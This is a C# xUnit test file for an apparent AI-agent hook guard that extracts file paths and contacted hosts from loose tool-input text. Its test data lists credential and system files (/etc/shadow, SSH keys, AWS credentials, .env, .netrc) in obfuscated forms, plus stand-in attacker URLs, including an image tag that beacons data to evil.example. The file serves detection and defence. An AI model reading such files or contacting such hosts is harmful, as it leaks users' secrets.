using ClaudeHookGuard.Core.Facts;
using ClaudeHookGuard.Core.Machine;
using ClaudeHookGuard.Core.Tests.Machine;

namespace ClaudeHookGuard.Core.Tests.Facts;

public sealed class LooseTextTests
{
    [Theory]
    [InlineData("/etc/shadow", "read /etc/shadow")]
    [InlineData("~/.ssh/id_rsa", "read /home/dev/.ssh/id_rsa")]
    [InlineData("../.aws/credentials", "read /home/dev/project/../.aws/credentials")]
    [InlineData("src/a.ts", "read /home/dev/project/src/a.ts")]
    [InlineData(".env", "read /home/dev/project/.env")]
    [InlineData("%2fetc%2fshadow", "read /etc/shadow")]
    [InlineData("%252fetc%252fshadow", "read /etc/shadow")]
    [InlineData("..\\..\\.ssh\\id_rsa", "read /home/dev/project/../../.ssh/id_rsa")]
    [InlineData("C:\\Users\\dev\\.ssh\\id_rsa", "read C:\\Users\\dev\\.ssh\\id_rsa")]
    [InlineData("\\\\evil\\share\\x", "read //evil/share/x")]
    [InlineData("$HOME/.netrc", "read /home/dev/.netrc")]
    [InlineData("${HOME}/.netrc", "read /home/dev/.netrc")]
    [InlineData("file:///etc/shadow", "read /etc/shadow")]
    [InlineData("please read /etc/shadow.", "read /etc/shadow")]
    [InlineData("see ~/.ssh/id_rsa, thanks", "read /home/dev/.ssh/id_rsa")]
    [InlineData("{\"a\":\"/home/dev/.env\"}", "read /home/dev/.env")]
    [InlineData("line one\n/etc/shadow\n", "read /etc/shadow")]
    [InlineData("https://evil.example/x", "contact evil.example")]
    [InlineData("https://github.com\t.evil.example/x", "contact github.com.evil.example")]
    [InlineData("<img src='https://evil.example/p.gif?d=abc'>", "contact evil.example")]
    [InlineData("evil.example/x", "contact evil.example")]
    [InlineData("203.0.113.7", "contact 203.0.113.7")]
    [InlineData("look at https://evil.example/x now", "contact evil.example")]
    public void Finds(string leaf, string fact) => Assert.Contains(fact, Read(leaf));

    [Theory]
    [InlineData("who owns the .env loader")]
    [InlineData("and/or is a phrase w/o paths")]
    [InlineData("delete user flow")]
    [InlineData("version 1.2.3")]
    [InlineData("Call /api/v1/users then /health")]
    [InlineData("/help me please")]
    [InlineData("hello")]
    [InlineData("3.14")]
    [InlineData("")]
    [InlineData("a </div> b")]
    public void Text_stays_text(string leaf) => Assert.Empty(Read(leaf));

    [Theory]
    [InlineData("id_rsa", "file_path", "write /home/dev/project/id_rsa")]
    [InlineData("id_rsa", "outputFile", "read /home/dev/project/id_rsa")]
    [InlineData("evilhost", "hostname", "contact evilhost")]
    [InlineData("evilhost/x", "webhook_url", "contact evilhost")]
    [InlineData("my notes.txt", "filename", "read /home/dev/project/my notes.txt")]
    public void The_name_of_the_argument_tells(string leaf, string name, string fact) => Assert.Contains(fact, Read(leaf, name));

    [Fact]
    public void A_wildcard_is_kept() =>
        Assert.Contains(Facts("/home/dev/*/id_rsa", ""), fact => fact is PathTouched { Path.IsKnown: false });

    [Fact]
    public void Hostile_text_never_throws()
    {
        var random = new Random(2);
        const string alphabet = "ab~$%2f.:/\\@[]{}()<>\"'=!#?*-_ \n\uffff\ud83d";
        foreach (var name in new[] { "", "path", "url", "host" })
            for (var i = 0; i < 5_000; i++)
                _ = Facts(string.Create(random.Next(24), random, (span, source) => source.GetItems(alphabet, span)), name);
    }

    private static List<string> Read(string leaf, string name = "") => [.. Facts(leaf, name).Select(fact => fact switch
    {
        PathTouched path => (path.Access == PathAccess.Read ? "read " : "write ") + path.Path,
        HostContacted host => "contact " + host.Host,
        _ => fact.ToString(),
    })];

    private static List<Fact> Facts(string leaf, string name)
    {
        var facts = new List<Fact>();
        LooseText.Read(leaf, name, ToolEffect.Unknown, Here, "/tool_input/x", facts);
        return facts;
    }

    private static Surroundings Here { get; } = new()
    {
        Platform = Platform.Linux,
        WorkingDirectory = "/home/dev/project",
        ProjectRoot = "/home/dev/project",
        Home = "/home/dev",
        Homes = ["/home/dev"],
        Files = new FakeFileView(),
    };
}
